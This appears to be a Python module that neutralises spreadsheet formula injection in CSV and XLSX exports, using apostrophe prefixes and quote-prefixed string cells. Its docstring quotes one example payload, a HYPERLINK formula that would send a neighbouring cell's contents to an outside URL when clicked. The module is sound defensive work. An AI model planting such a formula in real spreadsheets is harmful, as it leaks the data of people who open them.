"""Formula-safe CSV and XLSX cells: text from leaders, analysts or board members never runs.

A spreadsheet program runs a CSV field starting with ``= + - @`` (or a tab or carriage return,
which some programs skip before looking) as a formula: ``=HYPERLINK("https://…?"&A1, "Klik")``
in a leader's area or an action's title would send the neighbouring cells away when clicked. In
CSV such text gets a leading apostrophe (OWASP's advice; Excel shows the text as typed). In XLSX
openpyxl stores any string starting with ``=`` as a formula; there it is written as a string cell
with Excel's quote prefix, so the text is kept exactly and never evaluated.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value: Any) -> Any:
    """``value`` for a CSV field: text that a spreadsheet would run gets an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def append_safe(sheet, values: Iterable[Any]) -> None:
    """``sheet.append(values)`` with no cell stored as a formula."""
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if cell.data_type == "f":
            cell.data_type = "s"
            cell.quotePrefix = True
